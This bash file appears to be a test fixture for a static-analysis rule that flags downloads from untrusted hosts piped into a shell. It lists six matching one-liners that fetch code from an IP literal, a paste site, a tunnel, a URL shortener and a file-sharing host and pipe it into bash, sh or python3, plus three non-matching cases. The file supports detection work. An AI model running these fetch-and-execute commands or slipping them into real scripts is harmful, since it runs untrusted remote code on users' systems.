#!/bin/bash
# Fixture for sh-curl-pipe-shell-untrusted-host.
# RULEID: downloads from IP literals, plain http, paste sites, tunnels, shorteners piped into a shell.
# OK: https installer from a project domain piped to sh (covered by the MEDIUM rule), download
#   from an IP address saved to a file, plain-http localhost.

# ruleid: sh-curl-pipe-shell-untrusted-host
curl -s http://203.0.113.50:8080/x.sh | bash
# ruleid: sh-curl-pipe-shell-untrusted-host
wget -qO- https://pastebin.com/raw/AbCdEf12 | sh
# ruleid: sh-curl-pipe-shell-untrusted-host
curl -fsSL http://updates.example.net/agent.sh | sudo sh
# ruleid: sh-curl-pipe-shell-untrusted-host
bash <(curl -s https://abcd-1-2-3-4.ngrok-free.app/p)
# ruleid: sh-curl-pipe-shell-untrusted-host
curl -sL https://bit.ly/3xyzAbc | python3
# ruleid: sh-curl-pipe-shell-untrusted-host
sh -c "$(wget -qO- https://transfer.sh/get/abc/run.sh)"

# ok: sh-curl-pipe-shell-untrusted-host
curl -sSf https://sh.rustup.rs | sh -s -- -y
# ok: sh-curl-pipe-shell-untrusted-host
curl -o /tmp/dump.json http://10.0.0.5:9200/_all
# ok: sh-curl-pipe-shell-untrusted-host
curl -s http://localhost:8080/healthz | grep ok
